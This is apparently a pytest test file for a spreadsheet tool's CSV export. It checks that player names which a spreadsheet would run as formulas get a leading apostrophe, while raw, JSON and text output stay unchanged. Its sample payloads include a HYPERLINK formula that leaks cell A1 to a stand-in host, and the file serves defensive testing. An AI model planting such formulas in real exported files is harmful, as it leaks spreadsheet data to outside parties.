"""Formatting results: CSV that a spreadsheet opens without running a player's name as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

from xlscore.cli import main
from xlscore.excel.results import Result, csv_cell, format_result

# A text that a spreadsheet opening a CSV would take for a formula, one for each character OWASP names.
FORMULAS = (
    '=HYPERLINK("http://example.com/?leak="&A1,"Standings")',
    "+2+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=5+5",
    "\r=5+5",
)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_text_that_reads_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text
    out = format_result(Result("t", (text,), ((text, 1),)), "csv")
    assert _read(out) == [["'" + text], ["'" + text, "1"]]
    assert _read(format_result(Result("t", (text,), ((text, 1),)), "csv", raw=True)) == [[text], [text, "1"]]


def test_numbers_and_other_texts_are_kept() -> None:
    row = (-3, -3.0, -0.5, 0, 1e20, True, None, "Ann-Marie", "a=b", "'quoted", "#N/A", " =padded")
    assert [csv_cell(v) for v in row] == list(row)
    out = format_result(Result("t", ("a",), (row,)), "csv")
    assert out.splitlines()[1] == "-3,-3,-0.5,0,1e+20,True,,Ann-Marie,a=b,'quoted,#N/A, =padded"


def test_json_and_text_are_not_changed() -> None:
    result = Result("t", ("player", "points"), tuple((text, -3) for text in FORMULAS))
    assert json.loads(format_result(result, "json")) == [{"player": text, "points": -3} for text in FORMULAS]
    assert format_result(result, "text").splitlines()[1].startswith("=HYPERLINK(")


def _book(path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Standings"
    sheet.append(["player", "points"])
    for text in FORMULAS:
        sheet.append([text, -3])
        sheet.cell(sheet.max_row, 1).data_type = "s"  # a text, not a formula
    book.save(path)
    return path


def test_every_csv_the_command_line_writes_is_neutralised_unless_raw(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    book = _book(tmp_path / "event.xlsx")
    neutral = [["player", "points"], *(["'" + text, "-3"] for text in FORMULAS)]
    assert main(["export", str(book), "--name", "Standings", "--format", "csv", "--no-recalc"]) == 0
    assert _read(capsys.readouterr().out) == neutral
    assert main(["export", str(book), "--name", "Standings", "--format", "csv", "--no-recalc", "--raw-csv"]) == 0
    assert _read(capsys.readouterr().out) == [["player", "points"], *([text, "-3"] for text in FORMULAS)]
    assert main(["export", str(book), "--name", "Standings", "--format", "json", "--no-recalc"]) == 0
    assert json.loads(capsys.readouterr().out)[0] == {"player": FORMULAS[0], "points": -3}

    players = ["=1+1", "+2", "-3+3", "@A1", "\t=5+5", "Fay", "Gus"]
    assert main(["schedule", "--csv", "--", *players]) == 0
    first = _read(capsys.readouterr().out)[1]
    assert first == ["G1", "'=1+1", "'+2", "'-3+3", "'@A1"]
    assert main(["schedule", "--csv", "--raw-csv", "--", *players]) == 0
    assert _read(capsys.readouterr().out)[1] == ["G1", "=1+1", "+2", "-3+3", "@A1"]


def test_a_csv_file_written_is_neutralised_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    season = Path(__file__).resolve().parents[2] / "workbooks" / "meeple-league-season.xlsx"
    book = openpyxl.load_workbook(season)
    signups = book["Next season"]
    signups.cell(signups.max_row + 1, 1).value = "\t=5+5"
    signups.cell(signups.max_row, 1).data_type = "s"
    path = tmp_path / "season.xlsx"
    book.save(path)
    out = tmp_path / "next.csv"

    def players() -> list[str]:
        return [row["Player"] for row in csv.DictReader(io.StringIO(out.read_text(), newline=""))]

    assert main(["league", "next-season", str(path), "-o", str(out)]) == 0
    assert "'=5+5" in players()  # the core took the tab off the name
    assert not any(p.startswith(("=", "+", "-", "@", "\t", "\r")) for p in players())
    assert main(["league", "next-season", str(path), "-o", str(out), "--raw-csv"]) == 0
    assert "=5+5" in players()
